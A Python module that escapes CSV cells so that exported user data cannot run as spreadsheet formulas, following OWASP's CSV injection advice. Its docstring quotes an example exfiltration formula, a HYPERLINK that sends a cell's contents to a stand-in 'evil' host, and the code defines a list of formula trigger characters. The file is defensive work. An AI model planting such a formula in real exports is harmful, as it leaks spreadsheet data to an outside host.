"""CSV export that is safe to open in a spreadsheet (no formula injection).

Exported cells come from users (dataset rows, model names, audit messages). A cell
such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(...)` is run as a formula by Excel,
LibreOffice and Google Sheets when someone opens the export. Following OWASP's CSV
injection advice, any text cell that starts with a formula trigger gets a leading
single quote, which spreadsheets show as text and never evaluate.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import Any, TextIO

# "=", "+", "-", "@" start formulas; tab and CR can hide one behind whitespace. The
# full-width forms are accepted as formula starts by some spreadsheet locales.
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def escape_cell(value: Any) -> str:
    """The text to write for one cell: None is empty, risky text gets a leading quote.

    Real numbers (int/float, not text that looks like one) are written as they are:
    they cannot carry a formula and a quoted "-3" would stop being a number.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return str(value)
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def write_csv(rows: Iterable[Sequence[Any]], fh: TextIO, *, header: Sequence[str] | None = None) -> int:
    """Write `rows` (and an optional header) to `fh` with every cell escaped; returns data rows written.

    Open `fh` with `newline=""` as the csv module requires.
    """
    writer = csv.writer(fh, quoting=csv.QUOTE_MINIMAL)
    if header is not None:
        writer.writerow([escape_cell(h) for h in header])
    count = 0
    for row in rows:
        writer.writerow([escape_cell(v) for v in row])
        count += 1
    return count
